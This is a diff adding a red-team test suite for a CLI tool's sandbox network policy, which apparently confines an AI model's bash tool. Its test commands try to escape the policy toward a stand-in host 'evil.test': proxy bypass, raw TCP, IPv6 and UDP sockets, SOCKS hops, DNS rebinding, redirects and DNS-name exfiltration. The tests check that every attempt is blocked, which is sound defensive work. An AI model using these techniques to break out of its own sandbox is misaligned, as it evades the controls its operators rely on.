@@ -1,0 +1,201 @@
+// Red-team tests of the sandbox's network policy, as root and as an unprivileged user, against the
+// built CLI (`toolbelt tool bash '{…}' --sandbox` with a policy in ~/.toolbelt/settings.json). Every
+// server is on this machine's loopback under a made-up name that only the proxy resolves (pinned
+// with `sandbox.network.hosts`); each test looks for an effect: which server got a request.
+// Each command first reaches the allowed host (the control: on a toolbelt without the policy it
+// is not reached, so every test here fails there), then tries its way out.
+import { createSocket, type Socket as UdpSocket } from "node:dgram";
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
+import { CliProcesses, cleanEnv, ensureBuiltCli } from "../cli/helpers/cli-binary.js";
+import { sandboxUnavailableReason } from "../helpers/prerequisites.js";
+import { handOver, type TestUser, testUsers } from "../helpers/test-users.js";
+
+const unavailable = await sandboxUnavailableReason();
+
+vi.setConfig({ testTimeout: 120_000 });
+
+const cli = new CliProcesses();
+
+/** A loopback HTTP server that records the paths it was asked for. */
+interface Recorder {
+	server: Server;
+	port: number;
+	paths: string[];
+}
+
+async function recorder(
+	host: string,
+	answer: (path: string, port: number) => { status: number; headers?: Record<string, string>; body: string },
+): Promise<Recorder> {
+	const paths: string[] = [];
+	const server = createServer((request, response) => {
+		paths.push(request.url ?? "");
+		const reply = answer(request.url ?? "", port());
+		response.writeHead(reply.status, reply.headers).end(reply.body);
+	});
+	await new Promise<void>((resolve) => server.listen(0, host, resolve));
+	const port = () => (server.address() as { port: number }).port;
+	return { server, port: port(), paths };
+}
+
+let good: Recorder;
+let evil: Recorder;
+let evilV6: Recorder | undefined;
+let udp: UdpSocket;
+const udpReceived: string[] = [];
+let udpPort = 0;
+
+beforeAll(async () => {
+	evil = await recorder("127.0.0.1", () => ({ status: 200, body: "EVIL-REACHED\n" }));
+	good = await recorder("127.0.0.1", (path) =>
+		path.startsWith("/redirect")
+			? { status: 302, headers: { location: `http://evil.test:${evil.port}/after-redirect` }, body: "" }
+			: { status: 200, body: "GOOD-ANSWER\n" },
+	);
+	evilV6 = await recorder("::1", () => ({ status: 200, body: "EVIL-REACHED\n" })).catch(() => undefined);
+	udp = createSocket("udp4");
+	udp.on("message", (message) => udpReceived.push(message.toString()));
+	await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
+	udpPort = udp.address().port;
+});
+
+afterAll(() => {
+	for (const server of [good?.server, evil?.server, evilV6?.server]) server?.close();
+	udp?.close();
+});
+
+let outside = "";
+beforeEach(async () => {
+	ensureBuiltCli();
+	outside = await mkdtemp(join("/var/tmp", "toolbelt-sandbox-network-"));
+	evil.paths.length = 0;
+	if (evilV6) evilV6.paths.length = 0;
+	good.paths.length = 0;
+	udpReceived.length = 0;
+});
+afterEach(async () => {
+	cli.killAll();
+	await rm(outside, { recursive: true, force: true });
+});
+
+/** The policy: good.test and its port allowed; evil.test denied; rebind.test allowed by name. */
+function settings() {
+	return {
+		sandbox: {
+			enabled: true,
+			network: {
+				allow: ["good.test", `127.0.0.1:${good.port}`, "rebind.test"],
+				deny: ["evil.test"],
+				hosts: ["good.test=127.0.0.1", "evil.test=127.0.0.1", "rebind.test=127.0.0.1"],
+			},
+		},
+	};
+}
+
+/** Runs `command` through the built CLI's sandbox as `user`, with the policy in the user's settings. */
+async function sandboxed(user: TestUser, command: string) {
+	const home = join(outside, "home");
+	const project = join(outside, "project");
+	await mkdir(join(home, ".toolbelt"), { recursive: true });
+	await mkdir(project, { recursive: true });
+	await writeFile(join(home, ".toolbelt", "settings.json"), JSON.stringify(settings()));
+	await handOver(outside, user);
+	const control = `curl -sS -m 20 http://good.test:${good.port}/control; `;
+	return cli.run(["tool", "bash", JSON.stringify({ command: control + command }), "--sandbox"], {
+		cwd: project,
+		user,
+		env: cleanEnv({ HOME: home }),
+	});
+}
+
+function expectControlReached(run: { stdout: string; stderr: string }): void {
+	expect(good.paths).toContain("/control");
+	expect(run.stdout + run.stderr).toContain("GOOD-ANSWER");
+}
+
+describe.skipIf(unavailable !== undefined)("the sandbox's network policy, as root and as an unprivileged user", () => {
+	describe.each(testUsers())("as %s", (user) => {
+		it("a denied host is refused through the proxy, and the model is told which host", async () => {
+			const run = await sandboxed(
+				user,
+				`curl -sS -m 20 http://evil.test:${evil.port}/denied; echo; curl -sS -m 20 https://evil.test:${evil.port}/tunnel; echo`,
+			);
+			expectControlReached(run);
+			expect(evil.paths).toEqual([]);
+			expect(run.stdout + run.stderr).toContain("evil.test");
+		});
+
+		it("a host the allow list does not name is refused", async () => {
+			const run = await sandboxed(user, `curl -sS -m 20 http://other.test:${evil.port}/unlisted`);
+			expectControlReached(run);
+			expect(evil.paths).toEqual([]);
+		});
+
+		it("a command that ignores the proxy variables reaches nothing (TCP by address, IPv6, UDP)", async () => {
+			const script = [
+				`const net = require("node:net"), dgram = require("node:dgram");`,
+				`for (const host of ["127.0.0.1", "::1"]) net.connect(${evil.port}, host).on("error", () => {}).on("connect", function () { this.end("GET /raw HTTP/1.0\\r\\n\\r\\n"); });`,
+				`const socket = dgram.createSocket("udp4"); socket.send("UDP-LEAK", ${udpPort}, "127.0.0.1", () => socket.close());`,
+				"setTimeout(() => {}, 1000);",
+			].join("\n");
+			const run = await sandboxed(
+				user,
+				`curl -sS -m 5 --noproxy '*' http://127.0.0.1:${evil.port}/direct; curl -sS -m 5 --noproxy '*' -g 'http://[::1]:${evil.port}/direct6'; node -e '${script}'; echo done`,
+			);
+			expectControlReached(run);
+			expect(run.stdout).toContain("done");
+			expect(evil.paths).toEqual([]);
+			expect(evilV6?.paths ?? []).toEqual([]);
+			expect(udpReceived).toEqual([]);
+		});
+
+		it("an address the allow list does not name is refused through the proxy (by IPv4 and IPv6)", async () => {
+			const run = await sandboxed(
+				user,
+				`curl -sS -m 20 http://127.0.0.1:${evil.port}/by-address; curl -sS -m 20 -g 'http://[::1]:${evil.port}/by-address6'; curl -sS -m 20 -x socks5h://127.0.0.1:1080 http://127.0.0.1:${evil.port}/socks`,
+			);
+			expectControlReached(run);
+			expect(evil.paths).toEqual([]);
+			expect(evilV6?.paths ?? []).toEqual([]);
+		});
+
+		it("an allowed name that resolves to a loopback address the list does not name is refused (rebinding)", async () => {
+			const run = await sandboxed(
+				user,
+				`curl -sS -m 20 http://rebind.test:${evil.port}/rebound; curl -sS -m 20 -x socks5h://127.0.0.1:1080 http://rebind.test:${evil.port}/rebound-socks`,
+			);
+			expectControlReached(run);
+			expect(evil.paths).toEqual([]);
+		});
+
+		it("a redirect from an allowed host to a denied one is refused", async () => {
+			const run = await sandboxed(user, `curl -sS -m 20 -L http://good.test:${good.port}/redirect`);
+			expect(good.paths).toContain("/redirect");
+			expect(evil.paths).toEqual([]);
+			expect(run.stdout + run.stderr).toContain("evil.test");
+		});
+
+		it("a second proxy hop through the allowed host reaches nothing else", async () => {
+			// The allowed server as a proxy (it is not one), and the proxy through itself.
+			const run = await sandboxed(
+				user,
+				`curl -sS -m 20 -x http://good.test:${good.port} http://evil.test:${evil.port}/second-hop; curl -sS -m 20 --preproxy socks5h://127.0.0.1:1080 -x http://127.0.0.1:3128 http://evil.test:${evil.port}/via-self; curl -sS -m 20 -p -x http://127.0.0.1:3128 http://evil.test:${evil.port}/tunnel`,
+			);
+			expectControlReached(run);
+			expect(evil.paths).toEqual([]);
+		});
+
+		it("DNS names reach no resolver from inside (no exfiltration through name lookups)", async () => {
+			const run = await sandboxed(
+				user,
+				`getent hosts secret-data.evil.test; node -e 'require("node:dns").resolve4("secret-data.example.org", (error) => console.log(error ? "no-dns" : "dns-answered"))'`,
+			);
+			expectControlReached(run);
+			expect(run.stdout).toContain("no-dns");
+			expect(run.stdout).not.toContain("dns-answered");
+		});
+	});
+});
